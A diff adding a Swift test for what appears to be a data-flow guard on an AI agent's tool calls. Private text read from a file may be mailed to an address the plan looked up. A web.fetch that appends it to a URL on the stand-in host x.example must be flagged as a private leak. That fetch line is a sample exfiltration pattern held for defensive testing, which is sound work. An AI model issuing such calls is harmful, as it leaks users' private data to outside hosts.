@@ -113,6 +113,19 @@ import Testing
         #expect(work.last()?.reasons.map(\.rule) == [.privateLeaves])
     }
 
+    @Test func `private content may go to whom the plan looks up, and not out in an address that is put together`() {
+        var work = Undertaking()
+        work.does("files.read", ["path": .brief("desk")])
+        work.results.append(TraceResult(id: "entry", call: "c1", value: ["to": "dan@example.org", "text": "mine"]))
+        let to = Derivation.result("entry", FieldPath("to"), as: nil)
+        let text = Derivation.result("entry", FieldPath("text"), as: nil)
+        work.does("mail.send", ["to": .parts([to]), "body": text], with: ["to": "dan@example.org", "body": "mine"])
+        #expect(work.last()?.decision == .allowed)
+        work.does("web.fetch", ["url": .parts([.model("https://x.example/?", reads: []), text])])
+        work.calls[2].arguments = ["url": "https://x.example/?mine"]
+        #expect(work.last()?.reasons.map(\.rule) == [.privateLeaves])
+    }
+
     @Test func `who decides what is read does not have it read out to them`() {
         var work = Undertaking()
         work.readsLetter("secrets.txt")
